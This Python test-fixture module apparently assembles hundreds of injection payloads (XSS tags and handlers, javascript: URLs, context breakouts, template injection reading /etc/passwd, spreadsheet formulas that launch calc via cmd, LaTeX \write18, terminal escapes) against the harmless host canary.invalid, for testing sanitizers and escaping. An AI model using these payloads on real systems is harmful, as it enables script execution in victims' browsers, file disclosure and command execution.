"""Text that tries to be more than text: scripts, requests and breakouts of each known family.

Each that runs calls `alert` or sets `window.hit`; each that fetches asks canary.invalid, which does not exist.
"""

from __future__ import annotations

from itertools import product

AT = "http://canary.invalid/"
RUN = "window.hit=1"

SCRIPTS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={AT}s.js></script>", f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script type=module>{RUN}</script>",
    f"<script>{RUN}<!--", f"<<script>{RUN}//<</script>", f"<script defer src='{AT}d.js'></script>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{AT}h.js'/></svg>", f"<math><script>{RUN}</script></math>", "<script type='application/json'>{}</script>",
    f"<script nonce=x>{RUN}</script>", f"<script type=importmap>{{\"imports\":{{\"a\":\"{AT}\"}}}}</script>",
)  # fmt: skip
HANDLERS = tuple(
    f"<{tag} {rest} {event}={quote}{RUN}{quote}>"
    for (tag, rest, event), quote in product(
        (
            ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
            ("input", "autofocus", "onfocus"), ("details", "open", "ontoggle"), ("marquee", "", "onstart"), ("iframe", "", "onload"),
            ("div", "tabindex=0 autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
            ("style", "", "onload"), ("link", f"rel=stylesheet href={AT}", "onload"), ("p", "style='animation: x'", "onanimationstart"),
            ("img", "src", "ONERROR"), ("svg/x", "", "onload"), ("image", "src=x", "onerror"), ("track", "src=x", "onerror"),
        ),
        ('"', "'", ""),
    )
)  # fmt: skip
FETCHES = tuple(
    one.format(at=AT)
    for one in (
        "<img src={at}i.png>", "<img srcset='{at}i.png 1x'>", "<picture><source srcset={at}i.png><img></picture>", "<video src={at}v></video>",
        "<video poster={at}p></video>", "<audio src={at}a></audio>", "<link rel=stylesheet href={at}c.css>", "<link rel=prefetch href={at}>",
        "<link rel=preconnect href={at}>", "<link rel=icon href={at}>", "<link rel=manifest href={at}>", "<iframe src={at}></iframe>",
        "<frameset><frame src={at}></frameset>", "<object data={at}></object>", "<embed src={at}>", "<base href={at}>", "<meta http-equiv=refresh content='0;url={at}'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>window.hit=1</script>'>", "<form action={at}><button autofocus></form>",
        "<input type=image src={at}>", "<body background={at}>", "<table background={at}><td>", "<style>@import '{at}c.css';</style>",
        "<style>*{{background:url({at})}}</style>", "<div style='background:url({at})'>", "<div style=\"background-image:image-set('{at}' 1x)\">",
        "<style>@font-face{{font-family:x;src:url({at})}}*{{font-family:x}}</style>", "<svg><image href={at} /></svg>", "<svg><use href='{at}#x'/></svg>",
        "<svg><feImage href={at} /></svg>", "<math href={at}><mi>x</mi></math>", "<a ping={at} href=#>x</a>", "<track src={at}>", "<bgsound src={at}>",
        "<layer src={at}>", "<xml src={at}>", "<div style='list-style:url({at})'>", "<div style='cursor:url({at}),auto'>", "<img src='//canary.invalid/x'>",
        "<img src=\\\\canary.invalid\\x>", "<portal src={at}></portal>", "<a href={at} rel=prerender>x</a>",
    )
)  # fmt: skip
FRAMES = (
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=\"javascript:parent.{RUN}\"></iframe>",
    f"<iframe src='data:text/html,<script>parent.{RUN}</script>'></iframe>", f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>", f"<a href='javascript:{RUN}'>x</a>", f"<a href='JaVaScRiPt:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>", f"<a href='\x01javascript:{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>", f"<form action='javascript:{RUN}'><input type=submit autofocus></form>", f"<button formaction='javascript:{RUN}'>x</button>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to='javascript:{RUN}'>", f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<div style='width:expression({RUN})'>", f"<div style='-moz-binding:url({AT})'>",
    f"<div style='behavior:url({AT})'>", "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
)  # fmt: skip
BREAKOUTS = tuple(
    before + f"<img src=x onerror={RUN}>"
    for before in (
        "\">", "'>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</iframe>", "</xmp>", "</plaintext>", "-->", "--!>",
        "<!--", "<!-->", "<!--->", "]]>", "<![CDATA[", "</svg>", "</math>", "</select>", "</table>", "</caption>", "</pre>", "</code>", "</body></html>",
        "<plaintext>", "<xmp>", "<noscript><p title='</noscript>", "<textarea>", "<title>", "</p></div></section></main>", "\x00", "<\x00", "\\\">", "`>",
        "<table><td>", "<math><mtext><table><mglyph><style><!--</style>", "<svg></p><style><a id='</style>", "<form><math><mtext></form><form><mglyph><style></math>",
        "<select><template><style>", "<svg><![CDATA[", "<?xml ?>", "<!DOCTYPE x [<!ENTITY x 'y'>]>", "\u2028", "\ufeff", "\u202e",
    )
)  # fmt: skip
ATTRIBUTES = (
    f"\" onload=\"{RUN}", f"' onload='{RUN}", f"\" autofocus onfocus=\"{RUN}\" x=\"", f"x\" onmouseover={RUN} y=\"", f"\" style=\"background:url({AT})\" x=\"",
    f"` onload=`{RUN}", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"x onerror={RUN}", f"&quot; onload=&quot;{RUN}", f"&#34; onload=&#34;{RUN}",
)  # fmt: skip
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u02c2script\u02c3{RUN}", f"&amp;lt;script&amp;gt;{RUN}", "&#0;<b>", "&NotAnEntity;&", "&lt",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% include '/etc/passwd' %}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{ ''.__class__.__mro__ }}",
    "{# x #}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.hit=1')()}}", "$window.hit$", "{0.__class__}", "%(title)s", "%s%n",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](JAVASCRIPT:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"![x]({AT}i.png)", f"![x](x onerror={RUN})",
    f"<javascript:{RUN}>", f"[x]: {AT}\n![x]", f"`<script>{RUN}</script>`", f"```html\n<script>{RUN}</script>\n```", f"    <script>{RUN}</script>",
    f"[a](<x\" onmouseover=\"{RUN}>)", f"<b onclick={RUN}>x</b>", f"[![]({AT})]({AT})", f"[x](vbscript:{RUN})", f"[x](\x01javascript:{RUN})", f"[x](java&#10;script:{RUN})",
)  # fmt: skip
OTHERS = (
    "#read(\"/etc/passwd\")", "#eval(\"1+1\")", "#import \"@preview/x:0.1.0\"", f"#image(\"{AT}\")", f"#link(\"{AT}\")[x]", "$ x $ #panic()", "\\input{/etc/passwd}",
    "\\write18{touch x}", "\\href{javascript:x}{y}", "$\\href{javascript:window.hit=1}{x}$", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://canary.invalid/\",\"x\")",
    "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://canary.invalid/\",\"//a\")",
    "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://canary.invalid/\x07x\x1b]8;;\x07", "\x9b31m", "\x1bP+q544e\x1b\\", "\x08\x08\x08", "\rPublished: all is well",
    "[red]x[/red]", "[link=http://canary.invalid/]x[/link]", "[/]", "[bold", ":warning:", "<w:instrText>HYPERLINK</w:instrText>", "]]></w:t>", "\ud7ff\uffff", "\x0b\x0c\x1f",
)  # fmt: skip
FORMULAS = (
    *(
        before + formula
        for before, formula in product(
            ("", " ", "'", "''", ";", "x;", 'x;"', "x;''", "x\t", "x\n", "x\r\n", '"', "\u00a0", "\t", "\n", '",', "1;"),
            ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://canary.invalid/\"&A1)", "\uff1d1+1"),
        )
    ),
    "=", "+", "-", "@", "\t", "-0.5x", "- none", "+-1", "--1", "-1;-1", "-0.5;=1+1", "\uff0b1", "\uff0d1", "\uff20x", "=\u20281",
)  # fmt: skip
FAMILIES = {
    "scripts": SCRIPTS,
    "event handlers": HANDLERS,
    "requests": FETCHES,
    "frames and addresses": FRAMES,
    "breakouts": BREAKOUTS,
    "attributes": ATTRIBUTES,
    "entities and encodings": ENTITIES,
    "templates": TEMPLATES,
    "Markdown": MARKDOWN,
    "formulas": FORMULAS,
    "typesetters, spreadsheets, terminals": OTHERS,
}
PAYLOADS = tuple(dict.fromkeys(one for family in FAMILIES.values() for one in family))
